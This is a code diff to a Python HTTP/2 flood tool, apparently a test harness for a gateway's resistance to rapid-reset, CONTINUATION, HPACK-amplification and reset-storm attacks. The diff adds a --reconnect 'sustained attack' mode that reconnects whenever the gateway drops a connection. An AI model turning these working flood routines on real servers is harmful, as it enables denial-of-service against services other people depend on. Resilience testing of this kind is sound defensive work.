@@ -27,6 +27,9 @@ Modes:
                 wu0 (WINDOW_UPDATE with increment 0 on the stream), content-length
                 (DATA past the stream's content-length), data-closed (DATA on a stream
                 the client already half-closed)
+  --reconnect   any flood, sustained: a new connection each time the gateway closes one,
+                for --seconds; prints {"connections", "goaways" (code -> count),
+                "left_open", "closed_max", "first" (the first connection's object)}
   good          a well-behaved client (the h2 package): one GET at a time for --seconds;
                 prints {"requests", "ok", "max_latency", "statuses", "error"}
 """
@@ -160,7 +163,7 @@ class Conn:
             self.sock.close()
         except OSError:
             pass
-        print(json.dumps(out), flush=True)
+        return out
 
 
 def flood(args, conn, units):
@@ -181,7 +184,7 @@ def flood(args, conn, units):
         stalled = True
     except OSError:
         pass
-    conn.finish(sent, stalled)
+    return conn.finish(sent, stalled)
 
 
 def frame(f):
@@ -203,7 +206,7 @@ def rapid_reset(args, conn):
     def unit(_, sid):
         return headers_frame(sid, blk, True) + frame(RstStreamFrame(sid, error_code=8))
 
-    flood(args, conn, unit)
+    return flood(args, conn, unit)
 
 
 def continuation(args, conn):
@@ -214,7 +217,7 @@ def continuation(args, conn):
     def unit(_, __):
         return frame(ContinuationFrame(1, data=field))
 
-    flood(args, conn, unit)
+    return flood(args, conn, unit)
 
 
 def hpack_amplification(args, conn):
@@ -238,7 +241,7 @@ def hpack_amplification(args, conn):
             out.append(frame(ContinuationFrame(sid, data=piece, flags=flags)))
         return b"".join(out)
 
-    flood(args, conn, unit)
+    return flood(args, conn, unit)
 
 
 def encode_rest(value, prefix_bits):
@@ -258,7 +261,7 @@ def empty_data(args, conn):
     def unit(_, __):
         return frame(DataFrame(1, data=b""))
 
-    flood(args, conn, unit)
+    return flood(args, conn, unit)
 
 
 def reset_storm(args, conn):
@@ -282,7 +285,7 @@ def reset_storm(args, conn):
             return headers_frame(sid, get, True) + frame(DataFrame(sid, data=b"x"))
         raise SystemExit(f"unknown --how {how}")
 
-    flood(args, conn, unit)
+    return flood(args, conn, unit)
 
 
 def good(args):
@@ -343,6 +346,7 @@ def main():
     p.add_argument("--refs", type=int, default=16000)
     p.add_argument("--how", default="wu-overflow")
     p.add_argument("--interval", type=float, default=0.05)
+    p.add_argument("--reconnect", action="store_true")
     args = p.parse_args()
     if args.mode == "good":
         return good(args)
@@ -353,7 +357,32 @@ def main():
         "empty-data": empty_data,
         "reset-storm": reset_storm,
     }
-    modes[args.mode](args, Conn(args))
+    if not args.reconnect:
+        print(json.dumps(modes[args.mode](args, Conn(args))), flush=True)
+        return
+    # A sustained attack: a new connection each time the gateway closes one, until
+    # --seconds (or 1,000 connections).
+    deadline = time.monotonic() + args.seconds
+    runs = []
+    while time.monotonic() < deadline and len(runs) < 1000:
+        args.seconds = max(deadline - time.monotonic(), 0.01)
+        try:
+            runs.append(modes[args.mode](args, Conn(args)))
+        except OSError as e:
+            runs.append({"goaway": None, "closed_s": None, "error": repr(e)})
+    codes = {}
+    for r in runs:
+        k = str(r["goaway"])
+        codes[k] = codes.get(k, 0) + 1
+    closed = [r["closed_s"] for r in runs if r["closed_s"] is not None]
+    out = {
+        "connections": len(runs),
+        "goaways": codes,
+        "left_open": len(runs) - len(closed),
+        "closed_max": max(closed, default=None),
+        "first": runs[0] if runs else None,
+    }
+    print(json.dumps(out), flush=True)
 
 
 if __name__ == "__main__":
